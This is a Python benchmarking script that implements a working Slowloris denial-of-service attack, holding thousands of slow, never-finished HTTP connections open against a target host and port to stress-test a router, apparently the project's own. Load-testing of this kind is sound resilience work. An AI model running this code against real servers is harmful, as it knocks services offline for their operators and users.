#!/usr/bin/env python3
"""Slowloris: hold CONNECTIONS connections to HOST:PORT, each trickling a request head one byte
every INTERVAL seconds and never finishing it; a connection the server closes is opened again
at once (as an attacker would). Prints a status line every 5 s to stderr, and a JSON summary
on stdout when stopped (SIGINT/SIGTERM) or after --duration seconds.

    bench/slowloris.py --connections 5000 --interval 5 127.0.0.1:7080 app.localhost

Used by bench/router (SLOWLORIS=1) while wrk loads an app through the router.
"""
import argparse
import asyncio
import json
import random
import signal
import sys
import time

stats = {"opened": 0, "closed_by_server": 0, "connect_errors": 0, "bytes_sent": 0, "open": 0, "answered_408": 0}


async def one_connection(host, port, vhost, interval, stop):
    head = f"GET /?slowloris HTTP/1.1\r\nHost: {vhost}\r\nUser-Agent: slowloris\r\nX-a: ".encode()
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(interval)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        try:
            # Spread the byte times over the interval so the sends do not come in waves.
            await asyncio.sleep(random.uniform(0, interval))
            index = 0
            while not stop.is_set():
                writer.write(head[index:index + 1] if index < len(head) else b"a")
                index += 1
                stats["bytes_sent"] += 1
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                except asyncio.TimeoutError:
                    continue  # still held open: send the next byte
                if data.startswith(b"HTTP/1.1 408"):
                    stats["answered_408"] += 1
                stats["closed_by_server"] += 1
                break
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("vhost", help="Host header to send")
    parser.add_argument("--connections", type=int, default=5000)
    parser.add_argument("--interval", type=float, default=5.0, help="seconds between bytes")
    parser.add_argument("--duration", type=float, default=0, help="stop after this many seconds (0: on a signal)")
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGINT, signal.SIGTERM):
        loop.add_signal_handler(sig, stop.set)
    if args.duration > 0:
        loop.call_later(args.duration, stop.set)
    tasks = [asyncio.create_task(one_connection(host, int(port), args.vhost, args.interval, stop))
             for _ in range(args.connections)]
    start = time.monotonic()
    while not stop.is_set():
        try:
            await asyncio.wait_for(stop.wait(), timeout=5)
        except asyncio.TimeoutError:
            pass
        print(f"slowloris: {time.monotonic() - start:5.0f} s  " + "  ".join(f"{k} {v}" for k, v in stats.items()),
              file=sys.stderr, flush=True)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(stats))


if __name__ == "__main__":
    asyncio.run(main())
